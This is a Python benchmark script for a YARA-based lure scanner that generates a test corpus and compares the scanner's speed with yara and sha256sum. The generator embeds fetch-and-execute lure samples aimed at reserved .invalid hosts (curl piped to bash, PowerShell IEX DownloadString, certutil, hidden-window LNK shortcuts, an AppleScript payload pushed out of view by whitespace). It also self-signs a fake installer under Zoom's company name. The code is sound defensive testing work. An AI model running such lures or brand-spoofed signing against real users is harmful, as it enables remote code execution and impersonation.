"""Scan benchmark: Lureguard's scanner against its peers (yara CLI, sha256sum) on one generated corpus.

    python bench/scan/run.py [--quick] [--repeat N] [--rebuild]

Builds (once; cached in bench/.corpus/, gitignored) a seeded corpus of small files, 1-10 MB files and a
few >= 100 MB files, then measures CPU time (children's rusage) and wall time of:

  (a)  yara -p 1 -r            Debian's yara CLI with our rule pack (the YARA floor)
  (a') yara -p 1 -r -f         the same in fast mode, which is what our scanner uses
  (b)  sha256sum               via xargs in batches
  (c)  lureguard-agent scan --json --jobs 1
  (d)  lureguard-agent scan --json --jobs 2
  (e)  the floor for a Python scanner: read each file once, hashlib sha256, our RuleSet.match

and prints the ratios the project targets: ours(jobs=1) CPU / (yara + sha256sum) CPU <= 1.3 and
ours(jobs=2) wall / yara wall < 1.0. See bench/README.md.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import random
import re
import resource
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from agent.analysis.yara_scan import RuleSet
from agent.demo.pe_writer import build_pe

ROOT = Path(__file__).resolve().parents[2]
RULES_DIR = ROOT / "yara_rules"
CACHE = ROOT / "bench" / ".corpus"
SEED = 20261125
CORPUS_VERSION = 2  # bump when the generator changes, so cached corpora are rebuilt
MB = 1024 * 1024

# Every external our rules may use, with the scanner's defaults (see agent/analysis/yara_scan.py). The
# yara CLI needs each one defined with -d or the rules do not compile.
CLI_EXTERNALS = {
    "filename": "",
    "filepath": "",
    "extension": "",
    "filetype": "",
    "claimed_brand": "",
    "signer_org": "",
    "signature_status": "unsigned",
    "signature_valid": "false",
    "is_member": "false",
}


@dataclass(frozen=True)
class Profile:
    name: str
    small: int  # files of a few bytes to 1 MB
    medium: int  # files of 1-10 MB
    large: tuple[str, ...]  # which >= 100 MB files to make


FULL = Profile("full", small=2400, medium=60, large=("zoom_pe", "random", "zip"))
QUICK = Profile("quick", small=600, medium=16, large=("zoom_pe",))


# ------------------------------------------------------------------------------------------ corpus


WORDS = re.findall(
    r"\w+",
    "meeting update audio camera driver install invite agenda budget quarter report "
    "the a of to and in for on with as by is are was be this that from at it an will can new please your "
    "customer invoice project design review schedule release notes version support network device",
)

SCRIPTS: dict[str, list[str]] = {
    "sh": [
        '#!/bin/sh\nset -eu\nfor f in *.log; do gzip -9 "$f"; done\necho done\n',
        "#!/bin/bash\n# Install Zoom for Linux\ncurl -fsSLo zoom.deb https://zoom.example/zoom_amd64.deb\n"
        "sudo apt install ./zoom.deb\n",
        "#!/bin/sh\ncurl -fsSL https://zoom-fix.invalid/audio.sh | bash\n",
        "#!/bin/sh\ncurl -so /tmp/.zh https://x.invalid/h && chmod +x /tmp/.zh && /tmp/.zh\n",
    ],
    "ps1": [
        "Get-ChildItem -Recurse *.tmp | Remove-Item -Force\nWrite-Host 'cleaned'\n",
        "Invoke-WebRequest -Uri https://data.example/report.csv -OutFile report.csv\nImport-Csv report.csv\n",
        "IEX (New-Object Net.WebClient).DownloadString('https://teams-update.invalid/fix.ps1')\n",
    ],
    "py": ["import json, sys\nprint(json.dumps({'args': sys.argv}))\n", "def add(a, b):\n    return a + b\n"],
    "js": [
        "const fs = require('fs');\nconsole.log(fs.readdirSync('.').length);\n",
        "axios.get('https://api.invalid/v1/cfg').then(r => eval(r.data));\n",
    ],
    "bat": [
        "@echo off\r\necho Building...\r\nmsbuild app.sln /p:Configuration=Release\r\n",
        "@echo off\r\ncertutil -urlcache -split -f https://x.invalid/z.exe %TEMP%\\z.exe\r\n",
    ],
    "vbs": [
        'MsgBox "Hello"\n',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://x.invalid/n.js", False\nh.Send\n'
        'CreateObject("WScript.Shell").Run "node n.js", 0\n',
    ],
    "applescript": [
        'tell application "Finder" to get name of every disk\n',
        'open location "https://support.zoom.example/sdk"\n'
        + "\n" * 12000
        + 'do shell script "curl -fsSL https://sdk.zoom.invalid/fix | osascript"\n',
    ],
}

BRANDS = (
    ("Zoom Video Communications, Inc.", "Zoom", "ZoomInstaller.exe"),
    ("Microsoft Corporation", "Microsoft Teams", "MSTeamsSetup.exe"),
    ("Cisco Systems, Inc.", "Webex", "WebexSetup.exe"),
    ("Example Tools Ltd", "Example Backup", "backup.exe"),
)


def _text(rng: random.Random, n_words: int) -> str:
    words = [rng.choice(WORDS) for _ in range(n_words)]
    lines = [" ".join(words[i : i + 12]) for i in range(0, len(words), 12)]
    return "\n".join(lines) + "\n"


def _png(rng: random.Random, w: int, h: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + rng.randbytes(w * 3) for _ in range(h))
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows, 6)) + chunk(b"IEND", b"")


def _bmp(rng: random.Random, w: int, h: int) -> bytes:
    row = (w * 3 + 3) & ~3
    pixels = rng.randbytes(row * h)
    header = b"BM" + struct.pack("<IHHI", 54 + len(pixels), 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, w, h, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return header + info + pixels


def _executables(root: Path, lo: int, hi: int) -> list[Path]:
    """Regular, readable files between lo and hi bytes, sorted (a stable choice on one machine)."""
    found = []
    for path in sorted(root.iterdir()):
        try:
            if path.is_file() and not path.is_symlink() and lo <= path.stat().st_size <= hi:
                found.append(path)
        except OSError:
            continue
    return found


def _zip(path: Path, members: list[tuple[str, bytes]], *, compress: bool) -> None:
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", compression=method, compresslevel=1 if compress else None) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 1, 12, 0, 0))  # fixed: deterministic bytes
            info.compress_type = method
            zf.writestr(info, data)


def _run(cmd: list[str], **kw: object) -> None:
    subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL, **kw)  # type: ignore[call-overload]


def _pe(company: str, product: str, original: str, build: int, overlay: bytes = b"") -> bytes:
    """A do-nothing PE32+ whose VERSIONINFO says ``company``/``product`` (the project's own writer)."""
    strings = {
        "CompanyName": company,
        "FileDescription": f"{product} Installer",
        "ProductName": product,
        "OriginalFilename": original,
        "FileVersion": f"6.0.11.{build}",
    }
    return build_pe(strings, overlay=overlay)


def _msvc_dlls(download_dir: Path) -> list[Path]:
    """Microsoft-signed DLLs from the msvc-runtime wheel: the tests' cache if present, else pip download."""
    cached = sorted((ROOT / "tests" / ".cache" / "msvc").glob("*.dll"))
    if cached:
        return cached
    download_dir.mkdir(parents=True, exist_ok=True)
    wheels = sorted(download_dir.glob("msvc_runtime-*.whl"))
    if not wheels:
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pip",
                "download",
                "--no-deps",
                "--only-binary=:all:",
                "--platform",
                "win_amd64",
                "--python-version",
                "3.11",
                "msvc-runtime",
                "-d",
                str(download_dir),
            ],
            check=True,
        )
        wheels = sorted(download_dir.glob("msvc_runtime-*.whl"))
    out = []
    with zipfile.ZipFile(wheels[0]) as zf:
        for name in sorted(zf.namelist()):
            if name.lower().endswith(".dll"):
                target = download_dir / Path(name).name
                target.write_bytes(zf.read(name))
                out.append(target)
    return out


def _sign(pe: Path, work: Path, subject_org: str) -> None:
    """Authenticode-sign with a throwaway self-made certificate whose subject copies the brand."""
    key, cert = work / "sign.key", work / "sign.crt"
    if not cert.exists():
        subj = f"/O={subject_org}/CN={subject_org}"
        _run(
            [
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-keyout",
                str(key),
                "-out",
                str(cert),
                "-days",
                "3650",
                "-subj",
                subj,
            ],
            stderr=subprocess.DEVNULL,
        )
    signed = pe.with_suffix(".signed")
    _run(
        [
            "osslsigncode",
            "sign",
            "-certs",
            str(cert),
            "-key",
            str(key),
            "-h",
            "sha256",
            "-n",
            "Zoom",
            "-in",
            str(pe),
            "-out",
            str(signed),
        ]
    )
    signed.replace(pe)


def build_corpus(profile: Profile, dest: Path) -> None:
    rng = random.Random(SEED)
    work = dest.parent / f"_work-{profile.name}"
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir(parents=True)
    small, medium, large = dest / "small", dest / "medium", dest / "large"
    for d in (small, medium, large):
        d.mkdir(parents=True, exist_ok=True)
    count = 0

    def put(folder: Path, name: str, data: bytes) -> None:
        nonlocal count
        (folder / name).write_bytes(data)
        count += 1

    # --- small files: the bulk of a Downloads folder
    n = profile.small
    quotas = {
        "text": n * 20 // 100,
        "json": n * 8 // 100,
        "script": n * 17 // 100,
        "image": n * 12 // 100,
        "elf": n * 30 // 100,
        "pe": n * 8 // 100,
    }
    quotas["lnk"] = n - sum(quotas.values())
    for i in range(quotas["text"]):
        ext = rng.choice(("txt", "md", "csv", "log"))
        put(small, f"text_{i:05d}.{ext}", _text(rng, rng.randint(5, 4000)).encode())
    for i in range(quotas["json"]):
        doc = {"id": i, "items": [{"k": rng.choice(WORDS), "v": rng.random()} for _ in range(rng.randint(1, 400))]}
        put(small, f"data_{i:05d}.json", json.dumps(doc, indent=1).encode())
    kinds = sorted(SCRIPTS)
    for i in range(quotas["script"]):
        ext = kinds[i % len(kinds)]
        variants = SCRIPTS[ext]
        # Mostly the first (benign) variants; every 10th script is lure-shaped (reserved domains only).
        body = variants[-1] if i % 10 == 9 else variants[rng.randrange(max(1, len(variants) - 1))]
        put(small, f"script_{i:05d}.{ext}", (body + "\n# " + _text(rng, rng.randint(0, 200))).encode())
    for i in range(quotas["image"]):
        w, h = rng.randint(8, 160), rng.randint(8, 160)
        if i % 3:
            put(small, f"image_{i:05d}.png", _png(rng, w, h))
        else:
            put(small, f"image_{i:05d}.bmp", _bmp(rng, w, h))
    elves = _executables(Path("/usr/bin"), 1024, MB)
    for i, src in enumerate(rng.sample(elves, min(quotas["elf"], len(elves)))):
        put(small, f"elf_{i:05d}_{src.name}", src.read_bytes())
    real_pes = _msvc_dlls(CACHE / "_msvc") + sorted((ROOT / "tests" / ".cache" / "pe").glob("*.*"))
    for i in range(quotas["pe"]):
        if i < len(real_pes):
            put(small, f"pe_{i:05d}_{real_pes[i].name}", real_pes[i].read_bytes())
        else:
            company, product, original = BRANDS[i % len(BRANDS)]
            put(small, f"pe_{i:05d}_{original}", _pe(company, product, original, i))
    try:
        import pylnk3  # dev dependency; shortcuts are a small share of the corpus

        for i in range(quotas["lnk"]):
            args = "-w hidden -c iwr https://x.invalid/a | iex" if i % 10 == 9 else f"/k cd C:\\Projects\\p{i}"
            target = r"C:\Windows\System32\cmd.exe" if i % 10 != 9 else r"C:\Windows\powershell.exe"
            out = io.BytesIO()
            pylnk3.for_file(target, arguments=args).write(out)
            put(small, f"shortcut_{i:05d}.lnk", out.getvalue())
    except ImportError:
        for i in range(quotas["lnk"]):
            put(small, f"text_extra_{i:05d}.txt", _text(rng, 300).encode())

    # --- 1-10 MB files
    m = profile.medium
    big_bins = _executables(Path("/usr/bin"), MB, 10 * MB)
    big_bins += _executables(Path("/usr/lib/x86_64-linux-gnu"), MB, 10 * MB)
    picks = rng.sample(big_bins, min(len(big_bins), m * 3 // 10))
    for i, src in enumerate(picks):
        put(medium, f"bin_{i:03d}_{src.name}", src.read_bytes())
    for i in range(m * 3 // 10):
        put(medium, f"random_{i:03d}.bin", rng.randbytes(rng.randint(MB, 10 * MB)))
    for i in range(m * 3 // 10):
        members = [(f"doc_{j}.txt", _text(rng, rng.randint(1000, 60000)).encode()) for j in range(rng.randint(1, 5))]
        members.append(("payload.bin", rng.randbytes(rng.randint(MB // 2, 8 * MB))))
        members.append(("setup.sh", SCRIPTS["sh"][i % len(SCRIPTS["sh"])].encode()))
        _zip(medium / f"archive_{i:03d}.zip", members, compress=bool(i % 2))
        count += 1
    for i in range(m - len(picks) - 2 * (m * 3 // 10)):
        company, product, original = BRANDS[i % len(BRANDS)]
        data = _pe(company, product, original, 1000 + i, rng.randbytes(rng.randint(MB, 9 * MB)))
        put(medium, f"installer_{i:03d}_{original}", data)

    # --- >= 100 MB files
    if "zoom_pe" in profile.large:
        # A claimed brand: the scanner must hash and signature-check all of it.
        target = large / "ZoomInstallerFull.exe"
        target.write_bytes(_pe(*BRANDS[0], 9000, rng.randbytes(100 * MB)))
        _sign(target, work, BRANDS[0][0])
        count += 1
    if "random" in profile.large:
        put(large, "disk_image.img", rng.randbytes(128 * MB))
    if "zip" in profile.large:
        members = [(f"part_{j}.bin", rng.randbytes(22 * MB)) for j in range(5)]
        members.append(("README.txt", _text(rng, 5000).encode()))
        _zip(large / "dataset.zip", members, compress=False)
        count += 1
    shutil.rmtree(work, ignore_errors=True)


def corpus(profile: Profile, rebuild: bool) -> Path:
    dest = CACHE / f"{profile.name}-v{CORPUS_VERSION}"
    stamp = dest / ".complete"
    if rebuild or not stamp.exists():
        shutil.rmtree(dest, ignore_errors=True)
        print(f"building {profile.name} corpus in {dest} ...", flush=True)
        started = time.perf_counter()
        build_corpus(profile, dest)
        stamp.write_text(f"seed={SEED}\n")
        print(f"  built in {time.perf_counter() - started:.1f} s", flush=True)
    return dest


def corpus_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file() and not p.name.startswith("."))


# ----------------------------------------------------------------------------------------- measure


@dataclass
class Result:
    label: str
    cpu_s: float | None = None
    wall_s: float | None = None
    note: str = ""


def measure(
    label: str, cmd: list[str], *, repeat: int, ok_codes: tuple[int, ...] = (0,), stdout_path: Path | None = None
) -> Result:
    """Best of ``repeat`` runs: CPU time of the children (user + system) and wall time."""
    best: Result | None = None
    for _ in range(repeat):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        started = time.perf_counter()
        with open(stdout_path or os.devnull, "wb") as out:
            proc = subprocess.run(cmd, stdout=out, stderr=subprocess.PIPE, check=False)
        wall = time.perf_counter() - started
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        if proc.returncode not in ok_codes:
            err = proc.stderr.decode(errors="replace").strip().splitlines()
            return Result(label, note=f"exit {proc.returncode}: {err[-1] if err else ''}"[:160])
        cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
        if best is None or cpu < (best.cpu_s or 0):
            best = Result(label, cpu, wall)
    assert best is not None
    return best


def _warm(files: list[Path]) -> None:
    """Read every file once so each tool starts from the same (warm) page cache."""
    for path in files:
        with open(path, "rb") as f:
            while f.read(8 * MB):
                pass


def _rule_files() -> list[Path]:
    return sorted(RULES_DIR.rglob("*.yar"))


def yara_cmd(root: Path, fast: bool) -> list[str]:
    cmd = ["yara", "-p", "1", "-r"] + (["-f"] if fast else [])
    for name, value in CLI_EXTERNALS.items():
        cmd += ["-d", f"{name}={value}"]
    cmd += [f"{p.relative_to(RULES_DIR).as_posix()}:{p}" for p in _rule_files()]
    return [*cmd, str(root)]


def modules_used() -> list[str]:
    found = set()
    for path in _rule_files():
        found.update(re.findall(r'^\s*import\s+"(\w+)"', path.read_text("utf-8"), flags=re.MULTILINE))
    return sorted(found)


def scanner_cmd() -> list[str] | None:
    exe = Path(sys.executable).parent / "lureguard-agent"
    if exe.exists():
        return [str(exe)]
    if shutil.which("lureguard-agent"):
        return ["lureguard-agent"]
    try:
        import agent.cli  # noqa: F401  (only to learn whether the scanner exists yet)
    except ImportError:
        return None
    return [sys.executable, "-m", "agent.cli"]


def _summarise_scan(path: Path) -> str:
    verdicts: dict[str, int] = {}
    lines = 0
    for line in path.read_text("utf-8", errors="replace").splitlines():
        if not line.strip():
            continue
        try:
            obj = json.loads(line)
        except json.JSONDecodeError:
            continue
        lines += 1
        verdict = str(obj.get("verdict", "?"))
        verdicts[verdict] = verdicts.get(verdict, 0) + 1
    return f"{lines} results: " + ", ".join(f"{k} {v}" for k, v in sorted(verdicts.items()))


def floor(root: Path) -> int:
    """(e): what any Python scanner must pay at least: read each file once, sha256 it, run our rules."""
    rules = RuleSet.compile(RULES_DIR)
    for path in corpus_files(root):
        data = path.read_bytes()
        hashlib.sha256(data).hexdigest()
        rules.match(data, {"filename": path.name}, timeout_s=60)
    return 0


def _fmt(x: float | None) -> str:
    return "-" if x is None else f"{x:8.2f}"


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--quick", action="store_true", help="smaller corpus (a few hundred MB), < 5 minutes")
    ap.add_argument("--repeat", type=int, default=1, help="runs per measurement; the best is kept")
    ap.add_argument("--rebuild", action="store_true", help="rebuild the cached corpus")
    ap.add_argument("--floor", metavar="DIR", help=argparse.SUPPRESS)  # internal: measurement (e)
    args = ap.parse_args(argv)
    if args.floor:
        return floor(Path(args.floor))
    profile = QUICK if args.quick else FULL

    root = corpus(profile, args.rebuild)
    files = corpus_files(root)
    total = sum(p.stat().st_size for p in files)
    by_size = {
        "< 1 MB": sum(1 for p in files if p.stat().st_size < MB),
        "1-100 MB": sum(1 for p in files if MB <= p.stat().st_size < 100 * MB),
        ">= 100 MB": sum(1 for p in files if p.stat().st_size >= 100 * MB),
    }
    print(
        f"corpus {root}: {len(files)} files, {total / MB:.0f} MB ("
        + ", ".join(f"{k}: {v}" for k, v in by_size.items())
        + ")"
    )
    print(f"rules: {len(_rule_files())} files in {RULES_DIR}; modules used: {modules_used() or 'none'}")
    _warm(files)

    results: list[Result] = []
    work = Path(tempfile.mkdtemp(prefix="lureguard-bench-"))
    try:
        if shutil.which("yara"):
            ver = subprocess.run(["yara", "--version"], capture_output=True, text=True, check=False).stdout.strip()
            results.append(measure(f"(a)  yara {ver} -p 1 -r", yara_cmd(root, False), repeat=args.repeat))
            results.append(measure(f"(a') yara {ver} -p 1 -r -f", yara_cmd(root, True), repeat=args.repeat))
        else:
            results.append(Result("(a)  yara CLI", note="yara not installed (apt-get install yara)"))
            results.append(Result("(a') yara CLI -f", note="yara not installed"))

        listing = work / "files.lst"
        listing.write_bytes(b"".join(bytes(p) + b"\0" for p in files))
        sha_cmd = ["xargs", "-0", "-n", "500", "-a", str(listing), "sha256sum"]
        results.append(measure("(b)  sha256sum (xargs -n 500)", sha_cmd, repeat=args.repeat))

        scanner = scanner_cmd()
        for jobs, label in ((1, "(c)  lureguard-agent scan --jobs 1"), (2, "(d)  lureguard-agent scan --jobs 2")):
            if scanner is None:
                results.append(Result(label, note="scanner not available yet"))
                continue
            out = work / f"scan{jobs}.jsonl"
            res = measure(
                label,
                [*scanner, "scan", "--json", "--jobs", str(jobs), str(root)],
                repeat=args.repeat,
                ok_codes=(0, 1),
                stdout_path=out,
            )
            if res.cpu_s is not None:
                res.note = _summarise_scan(out)
            results.append(res)
        floor_cmd = [sys.executable, str(Path(__file__).resolve()), "--floor", str(root)]
        results.append(measure("(e)  floor: 1 read + hashlib + RuleSet", floor_cmd, repeat=args.repeat))
    finally:
        shutil.rmtree(work, ignore_errors=True)

    print()
    print(f"{'measurement':<44} {'CPU s':>8} {'wall s':>8} {'MB/s':>8}  note")
    for r in results:
        rate = f"{total / MB / r.wall_s:8.0f}" if r.wall_s else "       -"
        print(f"{r.label:<44} {_fmt(r.cpu_s)} {_fmt(r.wall_s)} {rate}  {r.note}")

    get = {r.label[:4]: r for r in results}
    yara_r, fast_r, sha_r, ours1, ours2, floor_r = (
        get.get(k) for k in ("(a) ", "(a')", "(b) ", "(c) ", "(d) ", "(e) ")
    )
    print()

    def ratio(name: str, num: float | None, den: float | None, target: str, ok: Callable[[float], bool]) -> None:
        if num is None or not den:
            print(f"{name:<58} {'-':>6}   target {target}  (not measured)")
            return
        value = num / den
        verdict = "" if target == "-" else f"target {target}  {'OK' if ok(value) else 'MISSED'}"
        print(f"{name:<58} {value:6.2f}   {verdict}")

    def cpu(r: Result | None) -> float | None:
        return r.cpu_s if r else None

    def wall(r: Result | None) -> float | None:
        return r.wall_s if r else None

    base = (cpu(yara_r) or 0) + (cpu(sha_r) or 0) if cpu(yara_r) is not None and cpu(sha_r) is not None else None
    ratio("ours(jobs=1) CPU / (yara + sha256sum) CPU", cpu(ours1), base, "<= 1.3", lambda v: v <= 1.3)
    ratio("ours(jobs=2) wall / yara wall", wall(ours2), wall(yara_r), "<  1.0", lambda v: v < 1.0)
    fast_base = (cpu(fast_r) or 0) + (cpu(sha_r) or 0) if cpu(fast_r) is not None and cpu(sha_r) else None
    ratio(
        "for reference: ours(jobs=1) CPU / (yara -f + sha256sum) CPU",
        cpu(ours1),
        fast_base,
        "<= 1.3",
        lambda v: v <= 1.3,
    )
    ratio("for reference: ours(jobs=1) CPU / floor (e) CPU", cpu(ours1), cpu(floor_r), "-", lambda v: True)
    digest = hashlib.sha256("\n".join(f"{p.relative_to(root)}:{p.stat().st_size}" for p in files).encode())
    print(f"\ncorpus fingerprint (names and sizes): {digest.hexdigest()[:16]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
